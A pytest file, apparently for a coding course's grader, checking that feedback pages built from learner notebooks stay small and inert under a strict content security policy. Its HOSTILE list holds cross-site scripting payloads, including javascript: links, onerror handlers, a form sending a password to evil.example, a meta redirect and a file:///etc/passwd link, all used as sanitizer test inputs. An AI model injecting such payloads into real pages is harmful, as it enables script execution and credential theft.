"""Whatever a learner writes or prints: their feedback page stays small, and nothing on it runs."""

import base64
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from IPython.core.formatters import DisplayFormatter
from nbformat import NotebookNode, v4

from grader import inert
from grader.feedback import clean
from nanollm.plot.figure import LessonFigure

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n and so on").decode()
CHECK = "# Check (1 point): a sum.\nassert add(1, 2) == 3"
OUR_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "header", "section", "div"}
OUR_TAGS |= {"span", "b", "details", "summary"}


def code(source: str, *outputs: NotebookNode, id: str = "add") -> NotebookNode:
    return v4.new_code_cell(source, id=id, outputs=list(outputs))


def prose(source: str) -> NotebookNode:
    return v4.new_markdown_cell(source, id="question")


def error(name: str, text: str, *trace: str) -> NotebookNode:
    return v4.new_output("error", ename=name, evalue=text, traceback=[*trace, f"{name}: {text}"])


def printed(text: str) -> NotebookNode:
    return v4.new_output("stream", name="stdout", text=text)


def shown(**data: str) -> NotebookNode:
    return v4.new_output("display_data", data={k.replace("_", "/"): v for k, v in data.items()})


class Tags(HTMLParser):
    """Collects the tags, attributes and comments of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.comments: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.comments.append(data)


def assert_inert(text: str) -> None:
    """Nothing on the page runs, loads, sends or styles but what the page itself brought."""
    found = Tags(text)
    assert set(found.tags) <= OUR_TAGS | clean.TAGS
    assert (found.tags.count("style"), found.tags.count("meta")) == (1, 4)
    assert not found.comments
    for tag, name, value in found.attributes:
        place = f"<{tag} {name}={value[:60]!r}>"
        if name == "href":
            assert value.startswith(("#", "http://", "https://", "mailto:")), place
        elif name == "src":
            assert value.startswith(tuple(f"data:{kind};base64," for kind in clean.SIGNATURES))
        elif tag != "meta":
            assert name in {"class", "id", "lang", "alt", "open", "start", "rel"}, place


HOSTILE = [
    "<script>alert(1)</script>",
    "</pre></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<b onclick='alert(1)' style='position:fixed'>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [y](file:///etc/passwd) [z](../../ben/page.html)",
    "![x](http://evil.example/x.png) ![y](//evil.example/x.png) ![z](secret.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![y](attachment:x) ![z](attachment:y)",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "<iframe src='http://evil.example'></iframe><object data=x></object><embed src=x>",
    "<svg onload=alert(1)><use href='http://evil.example#x'/></svg><math></math>",
    "<style>@import url(http://evil.example)</style><link rel=stylesheet href=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'><base href='http://evil.example'>",
    "<form action='http://evil.example'><input name=password><button>x</button></form>",
    "<!-- --><!--><![CDATA[<script>alert(1)</script>]]><?php ?>",
    '"><script>alert(1)</script>',
    "```html\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>",
    '```"onmouseover=alert(1)\nx\n```',
    "{{ 7 * 191 }} {% include 'page.css' %}",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b[31m\x00\x08",
    "half a pair: \ud800",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_learner_writes_or_prints_is_inert(page, text: str):
    answer = prose(text)
    svg = base64.b64encode(b"<svg onload=alert(1)>").decode()
    answer.attachments = {"x": {"image/svg+xml": text, "text/html": text}, "y": {"image/png": svg}}
    whole = page(
        answer,
        code(text, printed(text), error(text, text, text)),
        code(text, shown(text_html=text, text_plain=text), id="b"),
        code(text, shown(text_markdown=text, image_png=text), id="c"),
        code(text, shown(application_javascript=text, image_svg=text), id="d"),
        code(CHECK, error("AssertionError", text), id="add-check"),
        code(text, error(text, text), id="e-check"),
        comment=text.encode("utf-8", "replace").decode(),
        student=text.encode("utf-8", "replace").decode(),
        remarks=(f"link {text} refused",),
    )
    assert_inert(whole)
    assert "1337" not in whole
    whole.encode("utf-8")


def test_prose_keeps_its_form_its_pictures_and_its_angle_brackets(page):
    answer = prose(
        "**bold** `<unk>` <unk>\n\n- one\n\n[a](https://b.org) ![it](attachment:my%20it)"
    )
    answer.attachments = {"my it": {"image/png": PNG}}
    text = page(answer)
    for part in ("<strong>bold</strong>", "<li>one</li>", 'href="https://b.org"', f"base64,{PNG}"):
        assert part in text
    assert text.count("&lt;unk&gt;") == 2
    assert_inert(text)


def test_a_plot_is_shown_and_a_table_as_its_text(page):
    text = page(
        code("plot()", shown(image_png=PNG, text_plain="<Figure>")),
        code("table", shown(text_html="<table></table>", text_plain="a  b"), id="b"),
    )
    assert f'src="data:image/png;base64,{PNG}"' in text
    assert '<pre class="printed">a  b</pre>' in text


def test_what_a_picture_shows_is_said_in_words(page):
    figure = LessonFigure(figsize=(1, 1))
    figure.alt = 'A table: "<pad>" & <b onclick="go()">more</b>'
    drawn = inert.data(DisplayFormatter().format(figure)[0])
    text = page(
        code("1", v4.new_output("display_data", data=drawn)),
        code("2", shown(image_png=PNG, text_html="<img src=x onerror=away()>"), id="b"),
        code("3", shown(image_png=PNG, text_html='<img alt="' + '" ' * 100_000), id="c"),
    )
    said = [value for tag, name, value in Tags(text).attributes if (tag, name) == ("img", "alt")]
    assert said == [figure.alt, "output", ""]
    assert "away" not in text


MUCH = "x" * 50_000_000
LONG_PICTURE = PNG[:12] + "A" * 50_000_000


def attached() -> NotebookNode:
    """An answer that shows one picture a thousand times."""
    cell = prose("![x](attachment:x)\n\n" * 1000)
    cell.attachments = {"x": {"image/png": PNG[:12] + "A" * 400_000}}
    return cell


@pytest.mark.slow
@pytest.mark.parametrize(
    "make",
    [
        lambda: code("1", printed(MUCH)),
        lambda: code("1", *[printed("x" * 20_000)] * 2_500),
        lambda: code("1", shown(text_html=MUCH, text_plain=MUCH)),
        lambda: code("1", shown(image_png=LONG_PICTURE)),
        lambda: code(CHECK, error(MUCH, MUCH), id="add-check"),
        lambda: code(MUCH),
        lambda: prose(MUCH),
        attached,
    ],
    ids=["stream", "streams", "html", "picture", "error", "code", "prose", "attachment"],
)
def test_50_megabytes_make_a_small_page_soon(page, cost, make: Callable[[], NotebookNode]):
    cell, pages = make(), list[str]()
    spent = cost(lambda: pages.append(page(cell)))
    assert len(pages[0]) < 1_500_000
    assert spent < 50


@pytest.mark.slow
@pytest.mark.parametrize("bit", ["[", "*a ", "`", "> ", "- ", "![](", "<", "((", '"""', "\\", "|-"])
def test_no_parser_is_slow_on_repeated_signs(bit: str, cost):
    much = bit * (clean.MAX_SOURCE // len(bit))
    assert cost(lambda: (clean.markdown(much), clean.code(much))) < 50


def test_the_policy_lets_nothing_run_and_nothing_load(page):
    text = page(code(CHECK, id="add-check"))
    (policy,) = [v for tag, n, v in Tags(text).attributes if n == "content" and "default" in v]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == rules["form-action"] == rules["base-uri"] == "'none'"
    assert rules["img-src"] == "data:"
    assert "unsafe" not in policy
